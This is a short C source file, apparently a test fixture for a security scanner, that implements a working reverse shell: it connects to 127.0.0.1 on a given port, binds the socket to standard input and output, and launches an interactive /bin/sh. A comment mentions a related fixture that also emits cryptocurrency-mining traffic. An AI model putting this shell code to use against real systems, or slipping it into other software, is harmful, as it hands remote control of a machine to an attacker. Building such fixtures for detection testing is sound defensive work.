// The reverse-shell shape in C against 127.0.0.1:PORT: connect, dup2 the
// socket onto 0/1/2, exec /bin/sh -i. (Fixtures/bin/revshell also sends a
// stratum line in another mode, which makes its binary a miner by content.)
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[1])) };
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { perror("connect"); return 3; }
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
    char *sh[] = { "sh", "-i", NULL };
    execv("/bin/sh", sh);
    return 4;
}
